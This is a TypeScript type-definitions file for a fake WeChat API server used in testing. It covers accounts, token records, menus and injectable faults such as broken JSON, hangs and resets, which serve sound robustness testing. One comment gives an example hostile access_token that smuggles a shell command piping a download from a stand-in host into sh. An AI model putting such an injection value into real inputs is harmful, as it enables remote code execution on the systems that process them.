// The shapes the fake's files share: the options and call log tests see (re-exported by
// server.ts), and the per-account state the endpoint files read and change.

export interface FakeAccount {
  appId: string;
  secret: string;
  /** caller IPs allowed; undefined = any */
  ipWhitelist?: string[];
  /** default 2000 */
  classicDailyLimit?: number;
  /** The server URL configured in the MP console: undefined = a default one, null = none (callback/check → 40201). */
  callbackUrl?: string | null;
}

export interface FakeWeChatOptions {
  accounts: FakeAccount[];
  /** ms epoch, default Date.now; tests pass a fake clock */
  now?: () => number;
  /** default 0 = ephemeral */
  port?: number;
  /** default 7200 */
  tokenTtlSeconds?: number;
  /** the IP the fake pretends the caller has, default '127.0.0.1' */
  callerIp?: string;
}

export interface FakeCall {
  method: string;
  path: string;
  query: Record<string, string>;
  /** Parsed JSON body; the raw text if it is not JSON; undefined when empty. */
  body: unknown;
  /** errcode of the JSON reply (0 on success; -1 for the http500/nonJson faults, which have none). */
  errcode: number;
  /** now() when the request arrived */
  at: number;
  /** set when an injected fault answered (or delayed) this request */
  fault?: FakeFaultKind;
}

/** What an injected fault does to a request (see faults.ts and the README's fault table). */
export type FakeFaultKind =
  /** errcode -1, "system busy" */
  | 'busy'
  /** nginx's HTML error pages with that status */
  | 'http500'
  | 'http502'
  | 'http503'
  /** the platform's HTML page with HTTP 200 */
  | 'nonJson'
  /** HTTP 200 with a JSON content type and a body cut off in the middle of the JSON */
  | 'brokenJson'
  /** delays the endpoint's real reply by delayMs */
  | 'slow'
  /** never answers: the request hangs until the client gives up (or the fake closes) */
  | 'hang'
  /** sends the headers and half the body, then resets the connection */
  | 'reset'
  /** a 2 MB JSON body (a token answer whose access_token is 2 MB of characters) */
  | 'oversized'
  /** WeChat's error `errcode` (45009, 45011, …) in place of the endpoint's answer */
  | 'errcode'
  /** a token answer without access_token (`{"expires_in":7200}`) */
  | 'noToken'
  /** the endpoint's real token answer with `expires_in` replaced by the raw JSON text `expiresIn` */
  | 'expiresIn'
  /** the endpoint's real token answer with `access_token` replaced by the string `accessToken` (a hostile value) */
  | 'accessToken';

export interface FakeFault {
  kind: FakeFaultKind;
  /** default 1 */
  times?: number;
  /** for 'slow'; default 1000 */
  delayMs?: number;
  /** only for these paths; default all */
  paths?: string[];
  /** for 'errcode': the errcode answered (its errmsg from rules.ts) */
  errcode?: number;
  /** for 'expiresIn': the raw JSON literal put in place of expires_in, e.g. '0', '-5', '1e400', '"7200"' */
  expiresIn?: string;
  /** for 'accessToken': the string put in place of access_token, e.g. '86_ok";curl${IFS}evil|sh;"' */
  accessToken?: string;
}

export type TokenKind = 'classic' | 'stable';

export interface TokenRecord {
  token: string;
  appId: string;
  kind: TokenKind;
  issuedAt: number;
  expiresAt: number;
  /** When it stopped (or stops) working because a newer token replaced it; Infinity if never. */
  invalidAt: number;
}

export interface StoredMenu {
  /** The body as uploaded, deep-cloned (upload shape). */
  body: Record<string, unknown>;
  menuid: number;
}

export interface ConditionalMenu extends StoredMenu {
  matchrule: Record<string, unknown>;
}

export interface AccountState {
  account: FakeAccount;
  classicCurrent?: TokenRecord;
  classicPrevious?: TokenRecord;
  stableCurrent?: TokenRecord;
  stableOlder: TokenRecord[];
  lastForceRefreshAt?: number;
  /** China-time day the counters below belong to. */
  day: number;
  /** Successful calls today per cgi path. */
  used: Map<string, number>;
  forceCallsToday: number;
  minute: number;
  stableCallsThisMinute: number;
  defaultMenu?: StoredMenu;
  conditional: ConditionalMenu[];
}

/** An endpoint behind the access_token check gets the caller's account; the token endpoints do not. */
export type Route =
  | { method: 'GET' | 'POST' | 'ANY'; auth: false; handler: (ctx: RequestContext) => Reply }
  | { method: 'GET' | 'POST' | 'ANY'; auth: true; handler: (ctx: RequestContext, st: AccountState) => Reply };

export interface Reply {
  status: number;
  /** JSON value, or raw text when `contentType` is given (a Buffer for an image). */
  body: unknown;
  contentType?: string;
}

export interface RequestContext {
  method: string;
  path: string;
  query: Record<string, string>;
  /** raw body text */
  raw: string;
  /** parsed JSON, or undefined when the body is empty or not JSON */
  json: unknown;
  jsonOk: boolean;
}
